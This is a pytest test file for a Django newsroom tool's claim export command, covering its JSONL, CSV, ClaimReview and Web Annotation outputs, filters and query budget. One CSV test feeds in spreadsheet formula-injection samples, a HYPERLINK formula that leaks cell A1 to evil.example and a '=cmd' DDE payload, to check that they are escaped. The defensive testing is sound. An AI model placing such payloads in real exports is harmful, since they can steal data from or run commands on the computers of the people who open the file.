"""export_claims and `articles.exports.claim_export`: every format holds what its schema
requires, JSONL round-trips against the database, CSV cells cannot run as formulas, the
filters narrow, archived claims stay out by default, and the query count does not grow
with the number of claims."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from io import StringIO

import pytest
from django.conf import settings
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext

from articles import exports
from articles.exports import CLAIM_FORMATS, claim_export, csv_unsafe
from articles.models import (
    AnchorStatus,
    Appearance,
    Article,
    Claim,
    ClaimLink,
    ClaimStatus,
    Credibility,
)
from articles.services.claims import annotate, link_claims
from tests.factories import (
    AppearanceFactory,
    ArticleFactory,
    ClaimFactory,
    ClaimLinkFactory,
    SourceFactory,
    TagFactory,
)

pytestmark = pytest.mark.django_db

SUMMARY = re.compile(r"^exported (\d+) claims \((\w+)\) in \d+\.\d s$", re.M)
BODY = (
    "On Monday the ministry said that 430 soldiers had been captured near the border. "
    "Analysts doubted the figure. The governor claimed that 86% of the territory was regained."
)
MOTIVATIONS = {
    "assessing",
    "bookmarking",
    "classifying",
    "commenting",
    "describing",
    "editing",
    "highlighting",
    "identifying",
    "linking",
    "moderating",
    "questioning",
    "replying",
    "tagging",
}


# --- Validators: what each format's schema requires -----------------------------------------


def check_jsonl_record(record: dict) -> None:
    types = {
        "id": int,
        "text": str,
        "claim_type": str,
        "credibility": int,
        "status": str,
        "tags": list,
        "independent_sources": int,
        "admiralty_code": str,
        "best_grade": str,
        "links": list,
        "appearances": list,
    }
    for key, kind in types.items():
        assert isinstance(record[key], kind), (key, record)
    assert 1 <= record["credibility"] <= 6
    assert re.fullmatch(r"[A-F][1-6]", record["admiralty_code"])
    assert all(isinstance(tag, str) for tag in record["tags"])
    for link in record["links"]:
        assert link.keys() == {"relation", "claim", "direction"}
        assert link["direction"] in ("in", "out") and isinstance(link["claim"], int)
    for appearance in record["appearances"]:
        assert {
            "article", "start", "end", "exact", "prefix", "suffix", "claimant", "verb",
            "anchor_status",
        } <= appearance.keys()  # fmt: skip
        assert isinstance(appearance["article"], int)
        assert 0 <= appearance["start"] < appearance["end"]


def check_claim_review(item: dict) -> None:
    assert item["@context"] == "https://schema.org"
    assert item["@type"] == "ClaimReview"
    assert isinstance(item["claimReviewed"], str) and item["claimReviewed"]
    assert isinstance(item["url"], str) and item["url"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", item["datePublished"])
    assert item["author"]["@type"] == "Organization" and item["author"]["name"]
    rating = item["reviewRating"]
    assert rating["@type"] == "Rating"
    assert (rating["bestRating"], rating["worstRating"]) == (5, 1)
    assert isinstance(rating["alternateName"], str) and rating["alternateName"]
    if "ratingValue" in rating:
        assert rating["ratingValue"] in range(1, 6)
    claim = item["itemReviewed"]
    assert claim["@type"] == "Claim"
    works = claim.get("appearance", [])
    for work in works:
        assert work["@type"] == "CreativeWork"
        assert isinstance(work["url"], str) and work["url"]
        assert isinstance(work["headline"], str)
    if works:
        assert claim["firstAppearance"] in works
    if "author" in claim:
        assert claim["author"]["@type"] in ("Person", "Organization")
        assert claim["author"]["name"]


def check_annotation_collection(doc: dict, bodies: dict[str, str]) -> list[dict]:
    """Check the collection and every annotation in it; `bodies` maps a target source to
    the article body its selectors address. Returns the annotations."""
    assert doc["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert doc["type"] == "AnnotationCollection"
    assert isinstance(doc["id"], str) and doc["id"]
    assert isinstance(doc["total"], int)
    if doc["total"] == 0:
        assert "first" not in doc
        return []
    page = doc["first"]
    assert page["type"] == "AnnotationPage" and page["id"]
    annotations = page["items"]
    assert len(annotations) == doc["total"]
    assert len({a["id"] for a in annotations}) == len(annotations)
    for annotation in annotations:
        assert annotation["type"] == "Annotation"
        assert isinstance(annotation["id"], str) and annotation["id"]
        assert annotation["motivation"] in MOTIVATIONS
        datetime.fromisoformat(annotation["created"])
        assert annotation["creator"]["type"] in ("Person", "Organization", "Software")
        assert annotation["body"], "an annotation about a claim has a body"
        for body in annotation["body"]:
            assert body["type"] == "TextualBody" and isinstance(body["value"], str)
            assert body["purpose"] in MOTIVATIONS
        assert annotation["body"][0]["purpose"] == "describing"
        target = annotation["target"]
        text = bodies[target["source"]]
        selectors = {selector["type"]: selector for selector in target["selector"]}
        assert selectors.keys() <= {"TextQuoteSelector", "TextPositionSelector"}
        quote = selectors["TextQuoteSelector"]
        assert quote["exact"] and quote["prefix"] + quote["exact"] + quote["suffix"] in text
        if "TextPositionSelector" in selectors:
            position = selectors["TextPositionSelector"]
            assert 0 <= position["start"] < position["end"] <= len(text)
            assert text[position["start"] : position["end"]] == quote["exact"]
    return annotations


# --- Helpers --------------------------------------------------------------------------------


def _export(*args) -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command("export_claims", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def _jsonl(*args) -> list[dict]:
    out, _ = _export("--format", "jsonl", *args)
    return [json.loads(line) for line in out.splitlines()]


def _ids(*args) -> set[int]:
    return {record["id"] for record in _jsonl(*args)}


def _bodies(base_url: str = "") -> dict[str, str]:
    return {
        article.url or f"{base_url}/articles/{article.pk}/": article.body
        for article in Article.objects.all()
    }


@pytest.fixture
def seeded(db):
    call_command("loaddata", "seed", verbosity=0)


@pytest.fixture
def article(db):
    return ArticleFactory(body=BODY, published_at=datetime(2025, 3, 1, tzinfo=UTC))


def _claim(article, editor, phrase: str, **kwargs) -> Claim:
    start = article.body.index(phrase)
    return annotate(
        article=article, start=start, end=start + len(phrase), by=editor, **kwargs
    ).claim


def _many(n: int) -> None:
    """`n` claims, each with two tags, two appearances and a link to the previous one."""
    articles = [ArticleFactory(body=BODY) for _ in range(3)]
    tags = [TagFactory() for _ in range(4)]
    previous = None
    for i in range(n):
        claim = ClaimFactory()
        claim.tags.add(tags[i % 4], tags[(i + 1) % 4])
        AppearanceFactory(claim=claim, article=articles[i % 3], start=0, end=6)
        AppearanceFactory(claim=claim, article=articles[(i + 1) % 3], start=7, end=10)
        if previous:
            ClaimLinkFactory(from_claim=claim, to_claim=previous)
        previous = claim


# --- The seed fixture, every format ---------------------------------------------------------


def test_seed_exports_16_claims_in_every_format_each_valid(seeded):
    records = _jsonl()
    assert len(records) == 16
    for record in records:
        check_jsonl_record(record)

    out, err = _export("--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 16 and rows[0].keys() == set(exports.CLAIM_FIELDS)
    assert sum(int(row["appearances"]) for row in rows) == 22
    assert SUMMARY.search(err).groups() == ("16", "csv")

    out, _ = _export("--format", "claimreview")
    reviews = json.loads(out)
    assert len(reviews) == 16
    for review in reviews:
        check_claim_review(review)

    out, _ = _export("--format", "annotation")
    annotations = check_annotation_collection(json.loads(out), _bodies())
    assert len(annotations) == 22


def test_jsonl_round_trips_against_the_database(seeded):
    records = {record["id"]: record for record in _jsonl()}

    assert records.keys() == set(Claim.objects.values_list("pk", flat=True))
    for claim in Claim.objects.prefetch_related("tags", "appearances"):
        record = records[claim.pk]
        assert (record["text"], record["claim_type"], record["credibility"]) == (
            claim.text,
            claim.claim_type,
            claim.credibility,
        )
        assert record["status"] == claim.status and record["notes"] == claim.notes
        assert sorted(record["tags"]) == sorted(tag.name for tag in claim.tags.all())
        assert record["independent_sources"] == claim.n_sources
        assert (record["admiralty_code"], record["best_grade"]) == (
            claim.admiralty_code,
            claim.best_grade,
        )
        stored = sorted(
            (a.article_id, a.start, a.end, a.exact, a.prefix, a.suffix, a.claimant, a.verb)
            for a in claim.appearances.all()
        )
        fields = ("article", "start", "end", "exact", "prefix", "suffix", "claimant", "verb")
        exported = sorted(tuple(a[f] for f in fields) for a in record["appearances"])
        assert exported == stored
    links = set(ClaimLink.objects.values_list("from_claim", "to_claim", "relation"))
    assert len(links) == 3
    out, into = set(), set()
    for record in records.values():
        for link in record["links"]:
            if link["direction"] == "out":
                out.add((record["id"], link["claim"], link["relation"]))
            else:
                into.add((link["claim"], record["id"], link["relation"]))
    assert out == into == links
    assert {"relation": "contradicts", "claim": 4, "direction": "out"} in records[13]["links"]
    assert {"relation": "contradicts", "claim": 13, "direction": "in"} in records[4]["links"]


# --- CSV ------------------------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(article, editor):
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1 more captured",
        "@SUM(A1:A9)",
    ]
    claims = [
        _claim(article, editor, "430 soldiers", text=hostile[0], claimant="=cmd|' /C calc'!A0"),
        _claim(article, editor, "Analysts doubted the figure", text=hostile[1]),
        _claim(article, editor, "86% of the territory", text=hostile[2], tags=["-risky"]),
    ]

    out, _ = _export("--format", "csv")
    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(out))}

    for claim, text in zip(claims, hostile, strict=True):
        cell = rows[claim.pk]["text"]
        assert cell == "'" + text and csv_unsafe(cell) == text
    assert rows[claims[0].pk]["claimants"] == "'=cmd|' /C calc'!A0"
    assert rows[claims[2].pk]["tags"] == "'-risky"
    for row in rows.values():
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_csv_joins_tags_and_distinct_claimants(article, editor):
    claim = _claim(article, editor, "430 soldiers", claimant="the ministry", tags=["b", "A"])
    start = BODY.index("86%")
    annotate(article=article, start=start, end=start + 3, by=editor, claim=claim, claimant="X")
    annotate(article=article, start=0, end=9, by=editor, claim=claim, claimant="the ministry")

    out, _ = _export("--format", "csv")
    (row,) = csv.DictReader(io.StringIO(out))

    assert row["tags"] == "A; b"
    assert row["appearances"] == "3"
    assert sorted(row["claimants"].split("; ")) == ["X", "the ministry"]


# --- ClaimReview ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "credibility, value, label",
    [
        (1, 5, "Confirmed by other sources"),
        (2, 4, "Probably true"),
        (3, 3, "Possibly true"),
        (4, 2, "Doubtful"),
        (5, 1, "Improbable"),
        (6, None, "Truth cannot be judged"),
    ],
)
def test_claimreview_rates_credibility_on_a_five_point_scale(
    article, editor, credibility, value, label
):
    _claim(article, editor, "430 soldiers", credibility=credibility)

    out, _ = _export("--format", "claimreview")
    (review,) = json.loads(out)

    check_claim_review(review)
    assert review["reviewRating"].get("ratingValue") == value
    assert review["reviewRating"]["alternateName"] == label


def test_claimreview_names_the_first_appearance_and_its_claimant(editor, settings):
    settings.NEWSDESK_PUBLISHER = "The Verification Desk"
    later = ArticleFactory(body=BODY, published_at=datetime(2025, 3, 5, tzinfo=UTC))
    earliest = ArticleFactory(
        body=BODY, url="", origin="wire/0001.txt", published_at=datetime(2025, 3, 1, tzinfo=UTC)
    )
    undated = ArticleFactory(body=BODY, published_at=None)
    claim = _claim(undated, editor, "430 soldiers", claimant="")
    for article, claimant in [(later, "the ministry"), (earliest, "Ministry spokesman Ivanov")]:
        start = BODY.index("430 soldiers")
        end = start + len("430 soldiers")
        annotate(article=article, start=start, end=end, by=editor, claim=claim, claimant=claimant)

    out, _ = _export("--format", "claimreview", "--base-url", "https://desk.example")
    (review,) = json.loads(out)

    check_claim_review(review)
    item = review["itemReviewed"]
    # An article from a file has no URL: its page on the desk stands in.
    desk_page = f"https://desk.example/articles/{earliest.pk}/"
    assert [work["url"] for work in item["appearance"]] == [later.url, desk_page, undated.url]
    assert item["firstAppearance"]["url"] == desk_page
    assert item["firstAppearance"]["headline"] == earliest.title
    assert item["author"] == {"@type": "Person", "name": "Ministry spokesman Ivanov"}
    assert review["author"] == {"@type": "Organization", "name": "The Verification Desk"}
    assert review["url"] == f"https://desk.example/claims/{claim.pk}/"
    assert review["claimReviewed"] == claim.text


def test_claimreview_of_a_claim_without_appearances_has_no_first_appearance(db):
    ClaimFactory(text="x" * 300)

    out, _ = _export("--format", "claimreview")
    (review,) = json.loads(out)

    check_claim_review(review)
    assert review["claimReviewed"] == "x" * 300, "never truncated"
    assert "firstAppearance" not in review["itemReviewed"]


@pytest.mark.parametrize(
    "claimant, kind",
    [
        ("Kremlin spokesperson Dmitry Peskov", "Person"),
        ("the expert", "Person"),
        ("Gerasimov", "Person"),
        ("Russia", "Organization"),
        ("U.S. officials", "Organization"),
    ],
)
def test_claimant_kind_is_a_person_for_roles_and_tagged_people(claimant, kind):
    assert exports.claimant_kind(claimant, frozenset({"valery", "gerasimov"})) == kind


def test_empty_exports_are_still_valid_documents(db):
    assert _export("--format", "claimreview")[0] == "[]\n"
    assert json.loads(_export("--format", "annotation")[0])["total"] == 0
    check_annotation_collection(json.loads(_export("--format", "annotation")[0]), {})
    assert _export("--format", "csv")[0].strip() == ",".join(exports.CLAIM_FIELDS)
    assert _export("--format", "jsonl")[0] == ""


# --- Web Annotation -------------------------------------------------------------------------


def test_annotations_carry_quote_and_position_selectors_of_the_clean_body(article, editor):
    claim = _claim(article, editor, "430 soldiers had been captured", tags=["place:Kursk"])

    out, _ = _export("--format", "annotation", "--base-url", "https://desk.example")
    (annotation,) = check_annotation_collection(json.loads(out), _bodies())

    assert annotation["id"].startswith(f"https://desk.example/claims/{claim.pk}/#appearance-")
    assert annotation["target"]["source"] == article.url
    assert annotation["creator"]["nickname"] == editor.username
    assert [(b["purpose"], b["value"]) for b in annotation["body"]] == [
        ("describing", claim.text),
        ("tagging", "place:Kursk"),
        ("assessing", "F6 (Truth cannot be judged)"),
    ]


def test_fuzzy_and_orphaned_anchors_have_no_position_selector(article, editor):
    claim = _claim(article, editor, "430 soldiers")
    Appearance.objects.filter(claim=claim).update(anchor_status=AnchorStatus.ORPHANED)

    out, _ = _export("--format", "annotation")
    (annotation,) = check_annotation_collection(json.loads(out), _bodies())

    assert [s["type"] for s in annotation["target"]["selector"]] == ["TextQuoteSelector"]


# --- Filters --------------------------------------------------------------------------------


@pytest.fixture
def varied(article, editor):
    other = ArticleFactory(body=BODY, source=SourceFactory(name="Wire Service"))
    claims = {
        "open": _claim(article, editor, "430 soldiers", credibility=2, tags=["place:Kursk"]),
        "quantity": _claim(article, editor, "86%", credibility=4, claim_type="quantity"),
        "other_source": _claim(other, editor, "Analysts doubted", credibility=5),
        "archived": _claim(article, editor, "the figure", credibility=2, tags=["place:Kursk"]),
    }
    Claim.objects.filter(pk=claims["archived"].pk).update(status=ClaimStatus.ARCHIVED)
    return {name: claim.pk for name, claim in claims.items()}


def test_archived_claims_are_left_out_unless_asked_for(varied):
    assert _ids() == {varied["open"], varied["quantity"], varied["other_source"]}
    assert _ids("--include-archived") == set(varied.values())
    assert _ids("--status", "archived") == {varied["archived"]}


def test_filters_narrow_the_export(varied):
    assert _ids("--credibility", "2") == {varied["open"]}
    assert _ids("--credibility", "2", "--credibility", "5") == {
        varied["open"],
        varied["other_source"],
    }
    assert _ids("--claim-type", "quantity") == {varied["quantity"]}
    assert _ids("--tag", "PLACE: kursk") == {varied["open"]}
    assert _ids("--tag", "place:Kursk", "--include-archived") == {
        varied["open"],
        varied["archived"],
    }
    assert _ids("--source", "wire service") == {varied["other_source"]}
    assert _ids("--status", "open", "--credibility", "4") == {varied["quantity"]}


@pytest.mark.parametrize(
    "args, message",
    [
        (["--source", "No Such Outlet"], "no source has that name"),
        (["--tag", "topic:nothing"], "no such tag"),
    ],
)
def test_unknown_source_or_tag_is_bad_usage(varied, args, message):
    with pytest.raises(CommandError, match=message) as error:
        _export("--format", "jsonl", *args)
    assert error.value.returncode == 2


def test_bad_option_values_are_refused(db):
    for args in (["--format", "xml"], ["--format", "csv", "--credibility", "7"], []):
        with pytest.raises(CommandError):
            _export(*args)


# --- Streaming and query budget -------------------------------------------------------------


@pytest.mark.parametrize("fmt", list(CLAIM_FORMATS))
def test_query_count_does_not_grow_with_the_number_of_claims(fmt):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            for _ in claim_export(Claim.objects.all(), fmt):
                pass
        return len(captured)

    _many(5)
    small = queries()
    _many(45)
    assert Claim.objects.count() == 50
    assert queries() == small <= 6


def test_chunk_boundaries_lose_nothing(monkeypatch):
    _many(23)
    whole = "".join(claim_export(Claim.objects.all(), "jsonl"))

    monkeypatch.setattr(exports, "CLAIM_CHUNK", 4)
    with CaptureQueriesContext(connection) as captured:
        chunked = "".join(claim_export(Claim.objects.all(), "jsonl"))

    assert chunked == whole and len(whole.splitlines()) == 23
    assert len(captured) == 4 * 6 + 1  # 6 chunks of four queries, then the empty chunk


def test_export_is_lazy_until_read(seeded, django_assert_num_queries):
    with django_assert_num_queries(0):
        chunks = claim_export(Claim.objects.all(), "annotation")
    assert json.loads("".join(chunks))["total"] == 22


def test_content_types_per_format():
    assert CLAIM_FORMATS["jsonl"].startswith("application/x-ndjson")
    assert CLAIM_FORMATS["csv"].startswith("text/csv")
    assert CLAIM_FORMATS["claimreview"].startswith("application/ld+json")
    assert CLAIM_FORMATS["annotation"] == (
        'application/ld+json; profile="http://www.w3.org/ns/anno.jsonld"'
    )
    with pytest.raises(ValueError, match="unknown claim export format"):
        claim_export(Claim.objects.all(), "xml")


# --- Output files ---------------------------------------------------------------------------


def test_output_file_is_written_whole_and_replaces_the_old_one(seeded, tmp_path):
    path = tmp_path / "claims.json"
    path.write_text("old export", "utf-8")

    out, err = _export("--format", "claimreview", "--output", str(path))

    assert out == "" and SUMMARY.search(err).groups() == ("16", "claimreview")
    assert len(json.loads(path.read_text("utf-8"))) == 16
    assert [p.name for p in tmp_path.iterdir()] == ["claims.json"]


def test_unwritable_output_exits_1(seeded, tmp_path):
    with pytest.raises(CommandError, match="cannot write") as error:
        _export("--format", "csv", "--output", str(tmp_path / "missing" / "claims.csv"))
    assert error.value.returncode == 1


def test_link_written_by_the_service_shows_in_both_claims(article, editor):
    a = _claim(article, editor, "430 soldiers")
    b = _claim(article, editor, "86%")
    link_claims(from_claim=a, to_claim=b, relation="contradicts", by=editor)

    records = {record["id"]: record for record in _jsonl()}

    assert records[a.pk]["links"] == [
        {"relation": "contradicts", "claim": b.pk, "direction": "out"}
    ]
    assert records[b.pk]["links"] == [{"relation": "contradicts", "claim": a.pk, "direction": "in"}]


# --- A real process -------------------------------------------------------------------------


def test_exit_statuses_from_a_real_process(tmp_path):
    env = {
        **os.environ,
        "DATABASE_URL": f"sqlite:///{tmp_path / 'cli.sqlite3'}",
        "SECRET_KEY": "cli-test-" + "k" * 50,
        "NEWSDESK_ENV_FILE": str(tmp_path / "none.env"),
        "DJANGO_SETTINGS_MODULE": "newsdesk.settings",
    }

    def manage(*args) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, "manage.py", *args],
            cwd=settings.BASE_DIR,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )

    help_ = manage("export_claims", "--help")
    assert help_.returncode == 0 and "--include-archived" in help_.stdout
    usage = manage("export_claims", "--format", "xml")
    assert usage.returncode == 2 and "invalid choice" in usage.stderr
    assert manage("migrate", "-v0").returncode == 0
    done = manage("export_claims", "--format", "jsonl", "--output", str(tmp_path / "c.jsonl"))
    assert done.returncode == 0 and SUMMARY.search(done.stderr).groups() == ("0", "jsonl")
    unknown = manage("export_claims", "--format", "csv", "--source", "Nowhere Times")
    assert unknown.returncode == 2 and "Nowhere Times" in unknown.stderr
    assert "Traceback" not in unknown.stderr


def test_updated_at_date_is_the_review_date(article, editor):
    claim = _claim(article, editor, "430 soldiers", credibility=Credibility.PROBABLE)
    when = datetime(2025, 4, 2, 12, tzinfo=UTC) + timedelta(minutes=1)
    Claim.objects.filter(pk=claim.pk).update(updated_at=when)

    (review,) = json.loads(_export("--format", "claimreview")[0])

    assert review["datePublished"] == "2025-04-02"
